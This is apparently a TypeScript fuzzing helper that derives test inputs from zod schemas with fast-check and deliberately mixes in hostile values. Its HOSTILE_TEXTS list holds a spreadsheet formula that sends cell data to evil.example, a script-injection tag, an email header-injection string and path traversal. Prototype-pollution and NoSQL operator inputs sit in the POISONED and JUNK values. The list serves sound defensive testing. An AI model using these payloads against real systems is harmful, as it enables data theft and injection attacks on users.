/** Inputs made from the very schemas that the commands parse: mostly valid, so that calls get past the parser. */
import fc from 'fast-check';
import * as z from 'zod/mini';

/** Values that mean something in the file, by the name of the field that asks for them. */
export type Pools = Readonly<Record<string, readonly string[]>>;
type Json = null | boolean | number | string | readonly Json[] | { readonly [key: string]: Json };

/** What of a schema's definition is looked at. */
interface Definition {
  readonly type: string;
  readonly shape?: Readonly<Record<string, z.ZodMiniType>>;
  readonly innerType?: z.ZodMiniType;
  readonly element?: z.ZodMiniType;
  readonly options?: readonly z.ZodMiniType[];
  readonly entries?: Readonly<Record<string, string>>;
  readonly valueType?: z.ZodMiniType;
}
const definitionOf = (schema: z.ZodMiniType): Definition => schema._zod.def as unknown as Definition;

export const HOSTILE_TEXTS: readonly string[] = [
  '',
  ' ',
  '=IMPORTXML("http://evil.example/?"&A1;"//a")',
  '＝1+1',
  '<img src=x onerror=alert(1)>',
  'a\r\nBcc: evil@example.com',
  '__proto__',
  'constructor',
  'toString',
  'hasOwnProperty',
  'X01\u200b',
  '\u202Egnp.exe',
  'A\uD83DB',
  'hòa'.normalize('NFD'),
  '../../etc',
  '*',
  '{p}',
  '$&',
  '|',
  'x'.repeat(2001),
  '9'.repeat(400),
  'NaN',
  'null',
];
const NUMBERS = [0, 1, 2023, 2024, 2025, -1, 2024.5, 1e21, -1e308, Number.MAX_SAFE_INTEGER, 99_999_999];

const pick = <T>(values: readonly T[]): fc.Arbitrary<T> => fc.constantFrom(...values);

function textFor(schema: z.ZodMiniType, field: string, pools: Pools): fc.Arbitrary<string> {
  const all = [...(pools[field] ?? []), ...(pools.any ?? [])];
  const valid = all.filter((text) => z.safeParse(schema, text).success);
  const own = (pools[field] ?? []).filter((text) => valid.includes(text));
  const hostile = HOSTILE_TEXTS.filter((text) => z.safeParse(schema, text).success);
  return fc.oneof(
    { weight: 12, arbitrary: pick(own.length > 0 ? own : valid.length > 0 ? valid : ['']) },
    { weight: 4, arbitrary: pick(hostile.length > 0 ? hostile : HOSTILE_TEXTS) },
    { weight: 1, arbitrary: fc.oneof(pick(HOSTILE_TEXTS), fc.string({ unit: 'binary', maxLength: 30 })) },
  );
}

/** Inputs of a schema's shape; `field` is the name under which it stands. Throws on a kind of schema it does not know. */
export function inputsOf(schema: z.ZodMiniType, pools: Pools, field = ''): fc.Arbitrary<Json> {
  const { type, shape, innerType, element, options, entries, valueType } = definitionOf(schema);
  const inner = (of: z.ZodMiniType | undefined) => inputsOf(of ?? z.null(), pools, field);
  switch (type) {
    case 'object': {
      const parts = Object.entries(shape ?? {}).map(([key, each]) => [key, inputsOf(each, pools, key)]);
      const optional = Object.entries(shape ?? {}).filter(([, each]) => isOptional(each));
      const model = Object.fromEntries(parts) as Record<string, fc.Arbitrary<Json>>;
      const left = new Set(optional.map(([key]) => key));
      return fc.record(model, { requiredKeys: Object.keys(model).filter((key) => !left.has(key)) });
    }
    case 'string':
      return textFor(schema, field, pools);
    case 'number':
      return fc.oneof(
        { weight: 5, arbitrary: pick(NUMBERS) },
        fc.double({ noNaN: true, noDefaultInfinity: true }),
      );
    case 'boolean':
      return fc.boolean();
    case 'enum':
      return pick(Object.values(entries ?? {}));
    case 'array':
      return fc.array(inner(element), { maxLength: 3 });
    case 'record':
      return fc.dictionary(pick(['name', 'c1', ...HOSTILE_TEXTS]), inner(valueType), { maxKeys: 3 });
    case 'union':
      return fc.oneof(...(options ?? []).map((each) => inner(each)));
    case 'nullable':
      return fc.option(inner(innerType));
    case 'default':
    case 'optional':
      return inner(innerType);
    case 'null':
      return fc.constant(null);
    default:
      throw new Error(`no inputs are known for a schema of type ${type}`);
  }
}
/** One input of a schema's shape with `text` of its field's name wherever a text may stand, even one that is then refused. */
export function inputsWith(schema: z.ZodMiniType, text: (field: string) => string, field = ''): Json {
  const { type, shape, innerType, element, options, entries, valueType } = definitionOf(schema);
  const inner = (of: z.ZodMiniType | undefined) => inputsWith(of ?? z.null(), text, field);
  switch (type) {
    case 'object':
      return Object.fromEntries(
        Object.entries(shape ?? {}).map(([key, each]) => [key, inputsWith(each, text, key)]),
      );
    case 'string':
      return text(field);
    case 'number':
      return 2024;
    case 'boolean':
      return true;
    case 'enum':
      return Object.values(entries ?? {})[0] ?? '';
    case 'array':
      return [inner(element)];
    case 'record':
      return { [text(field)]: inner(valueType) };
    case 'union':
      return inner(options?.[0]);
    case 'null':
      return null;
    default:
      return inner(innerType);
  }
}

const isOptional = (schema: z.ZodMiniType): boolean =>
  ['default', 'optional'].includes(definitionOf(schema).type);

const JUNK: readonly Json[] = [null, true, 7, 'text', [], [1], {}, { fields: 1 }, { $ne: '' }];
/** A key of its own called `__proto__` survives JSON, and nothing else. */
const POISONED = '{"__proto__":{"unit":"X01","isOffice":true},"constructor":{"prototype":{"unit":"X01"}}}';

/** The same, bent: a leaf replaced, a key dropped, added or poisoned, or the whole exchanged for junk. */
export function bent(inputs: fc.Arbitrary<Json>): fc.Arbitrary<Json> {
  const bend = fc.record({
    input: inputs,
    how: fc.constantFrom('drop', 'add', 'leaf', 'poison', 'wrap', 'junk'),
    at: fc.nat(30),
    junk: fc.oneof(pick(JUNK), pick(HOSTILE_TEXTS), fc.jsonValue({ maxDepth: 2 }) as fc.Arbitrary<Json>),
  });
  const changed = bend.map(({ input, how, at, junk }): Json => {
    if (how === 'junk' || typeof input !== 'object' || input === null || Array.isArray(input)) return junk;
    const entries = Object.entries(input);
    const key = entries[at % Math.max(1, entries.length)]?.[0] ?? 'unit';
    if (how === 'drop') return Object.fromEntries(entries.filter(([each]) => each !== key));
    if (how === 'add') return { ...input, [HOSTILE_TEXTS[at % HOSTILE_TEXTS.length] || 'extra']: junk };
    if (how === 'leaf') return { ...input, [key]: junk };
    if (how === 'wrap') return [input] as readonly Json[];
    return { ...(JSON.parse(POISONED) as object), ...input } as Json;
  });
  return fc.oneof({ weight: 3, arbitrary: inputs }, { weight: 2, arbitrary: changed });
}
export type { Json };
